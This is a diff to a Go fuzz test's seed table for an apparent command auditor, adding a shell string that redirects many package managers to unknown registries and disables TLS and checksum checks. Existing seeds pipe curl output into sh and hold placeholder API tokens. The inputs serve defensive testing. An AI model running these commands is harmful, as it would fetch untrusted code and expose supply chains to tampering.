@@ -132,6 +132,7 @@ var fuzzSeeds = [][]string{
 	{"bash", "-c", "builtin eval 'npx a'; command -p -- source <(curl x); command -v eval; builtin {command,eval} 'uvx b'; curl y | command . /dev/stdin; command"},
 	{"srv", "--api-key", "Q7vLm2xR9tKp4WzN8sYd", "--x", "GH=ghp_R9tKp4WzN8sYdQ7vLm2xR9tKp4WzN8sYdQ7v", "API_TOKEN=Q7vLm2xR9tKp4WzN8sYd"},
 	{"systemd-run", "-E", "A=1", "--uid", "u", "run0", "-u", "x", "machinectl", "-E", "B=2", "shell", "--uid=0", "r@", "flatpak", "--user", "run", "--command", "sh", "--env=C=3", "app", "-c", "curl x | sh; flatpak run --command= a; machinectl shell; systemd-run --user"},
+	{"sh", "-c", "npm set a=b; npm c set @s:registry http://x registry; yarn config set npmRegistryServer y; pip config --site set g.trusted-host h; go env -w GOPROXY=http://p GOSUMDB=off X; gem sources -a http://g; conda config --set ssl_verify no --add channels; dotnet nuget add source; git -c url.http://u/.insteadOf=v -c http.sslVerify=0 fetch; git config --global url.x.insteadOf"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
